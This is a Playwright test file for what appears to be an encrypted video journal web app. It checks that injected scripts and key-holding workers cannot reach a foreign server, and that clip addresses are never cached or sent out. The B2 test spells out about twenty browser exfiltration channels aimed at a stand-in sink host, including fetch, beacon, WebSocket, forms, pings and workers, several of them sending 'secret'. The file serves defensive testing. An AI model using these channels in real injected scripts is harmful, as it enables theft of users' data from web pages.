/** What a script that got into the page could try to carry out of it. */
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test as base } from './fixtures.ts';
import { createJournal, unlock } from './journal-steps.ts';
import { openRecord, startRecording, withoutCountdown } from './record-steps.ts';
import { FILM, importAndOpen, state } from './support/watching.ts';
import { tryChannels } from './support/worker-channels.ts';

/** A server of somebody else, that takes whatever it gets. */
interface Sink {
  readonly origin: string;
  readonly heard: readonly string[];
}

const test = base.extend<{ sink: Sink }>({
  sink: async ({}, use) => {
    const heard: string[] = [];
    const server: Server = createServer((request, response) => {
      heard.push(request.url ?? '');
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('0');
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    await use({ origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard });
    server.closeAllConnections();
    await new Promise((closed) => server.close(closed));
  }
});

const CHANNELS = [
  'fetch',
  'no-cors fetch',
  'XMLHttpRequest',
  'beacon',
  'WebSocket',
  'EventSource',
  'image',
  'style',
  'font',
  'script',
  'module',
  'media',
  'frame',
  'object',
  'form',
  'ping',
  'blob worker',
  'data worker',
  'foreign worker',
  'prefetch'
] as const;

test('B2 an injected script finds every channel to another server shut', async ({ page, sink, guard }) => {
  guard.expected(/^blocked: /);
  guard.expected(/^uncaught: /);
  // What is asked for and refused; the server itself says whether it was reached.
  guard.expected(/^foreign request: /);
  await createJournal(page);

  await page.evaluate(
    async ([channels, origin]) => {
      const add = (tag: string, properties: Record<string, string>): HTMLElement => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(properties)) {
          // Trusted Types stop some of these before the policy for addresses is asked.
          element.setAttribute(name, value);
        }
        document.body.append(element);
        return element;
      };
      const attempts: Record<(typeof channels)[number], (address: string) => unknown> = {
        fetch: (address) => fetch(address, { method: 'POST', body: 'secret' }),
        'no-cors fetch': (address) => fetch(address, { mode: 'no-cors', keepalive: true }),
        XMLHttpRequest: (address) => {
          const request = new XMLHttpRequest();
          request.open('POST', address);
          request.send('secret');
        },
        beacon: (address) => navigator.sendBeacon(address, 'secret'),
        WebSocket: (address) => new WebSocket(address.replace('http', 'ws')),
        EventSource: (address) => new EventSource(address),
        image: (address) => add('img', { src: address }),
        style: (address) => add('link', { rel: 'stylesheet', href: address }),
        font: (address) => new FontFace('stolen', `url(${address})`).load(),
        script: (address) => add('script', { src: address }),
        module: (address) => import(address),
        media: (address) => add('video', { src: address, autoplay: '' }),
        frame: (address) => add('iframe', { src: address }),
        object: (address) => add('object', { data: address }),
        form: (address) => {
          const form = add('form', { action: address, method: 'post', target: '_blank' });
          (form as HTMLFormElement).submit();
        },
        ping: (address) => {
          const link = add('a', { href: '#', ping: address });
          link.click();
        },
        'blob worker': (address) =>
          new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(address)})`], { type: 'text/javascript' }))),
        'data worker': (address) => new Worker(`data:text/javascript,fetch(${JSON.stringify(address)})`),
        'foreign worker': (address) => new Worker(address),
        prefetch: (address) => add('link', { rel: 'prefetch', href: address })
      };
      for (const channel of channels) {
        try {
          await Promise.race([
            attempts[channel](`${origin}/${encodeURIComponent(channel)}`),
            new Promise((later) => setTimeout(later, 300))
          ]);
        } catch {
          // Refused, as it should be.
        }
      }
    },
    [CHANNELS, sink.origin] as const
  );
  await page.waitForTimeout(1000);
  expect(sink.heard).toEqual([]);

  // The server does hear whoever may speak to it.
  await fetch(`${sink.origin}/control`);
  expect(sink.heard).toEqual(['/control']);
});

for (const [when, cached] of [
  ['on the first visit', false],
  ['and when their scripts come from the cache', true]
] as const) {
  test(`B2 workers that hold keys have no way out, not even to our own server, ${when}`, async ({
    page,
    guard,
    sink,
    origin
  }) => {
    guard.expected(/^blocked: /);
    guard.expected(/^foreign request: /);
    await withoutCountdown(page);
    // The worker that derives is ended with its work, and answers nobody before: here it stays.
    await page.addInitScript(() => {
      Worker.prototype.terminate = () => undefined;
    });
    const fromCache = new Map<string, boolean>();
    page.on('response', (response) => fromCache.set(response.url(), response.fromServiceWorker()));
    await createJournal(page);
    if (cached) {
      await page.evaluate(() => navigator.serviceWorker.ready);
      fromCache.clear();
      await page.reload();
      await unlock(page);
    }
    await openRecord(page);
    await startRecording(page);

    for (const kind of ['vault', 'kdf', 'recorder']) {
      const worker = page.workers().findLast((running) => running.url().includes(`${kind}.worker`));
      if (!worker) throw new Error(`no ${kind} worker runs`);
      if (cached) expect(fromCache.get(worker.url()), `${kind} from the cache`).toBe(true);
      const outcomes = Object.entries(await tryChannels(worker, origin, sink.origin));
      expect(outcomes.filter(([, outcome]) => outcome === 'open')).toEqual([]);
      expect(outcomes.length).toBe(12);
    }
    // What was let out and then not let in again, only the other end knows.
    expect(sink.heard).toEqual([]);
    // Both servers answer whoever may speak to them.
    expect(await page.evaluate(async () => (await fetch('/readyz')).status)).toBe(200);
    await fetch(`${sink.origin}/control`);
    expect(sink.heard).toEqual(['/control']);
  });
}

test('B8 the addresses of clips are kept by nobody and sent to nobody', async ({ page, request }) => {
  test.skip(!existsSync(FILM), `no recordings: set SVJ_MEDIA_DIR (${FILM})`);
  const networked: string[] = [];
  page.on('response', (response) => {
    if (response.url().includes('/clip/') && !response.fromServiceWorker()) networked.push(response.url());
  });
  await createJournal(page);
  const video = await importAndOpen(page, FILM);
  expect((await state(video)).src).toContain('/clip/');

  expect(networked).toEqual([]);
  const listed = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name));
  expect(listed.filter((url) => url.includes('/clip/'))).toEqual([]);
  const cached = await page.evaluate(async () => {
    const stores = await Promise.all((await caches.keys()).map((name) => caches.open(name)));
    return (await Promise.all(stores.map((store) => store.keys()))).flat().map(({ url }) => url);
  });
  expect(cached.length).toBeGreaterThan(10);
  expect(cached.filter((url) => url.includes('/clip/'))).toEqual([]);
  const { headers } = await page.evaluate(
    async (address) => {
      const response = await fetch(address, { headers: { Range: 'bytes=0-1' } });
      return { headers: Object.fromEntries(response.headers) };
    },
    (await state(video)).src
  );
  expect(headers).toMatchObject({ 'cache-control': 'no-store' });
  const document = await request.get('/', { headers: { Accept: 'text/html' } });
  expect(document.headers()['referrer-policy']).toBe('no-referrer');
});
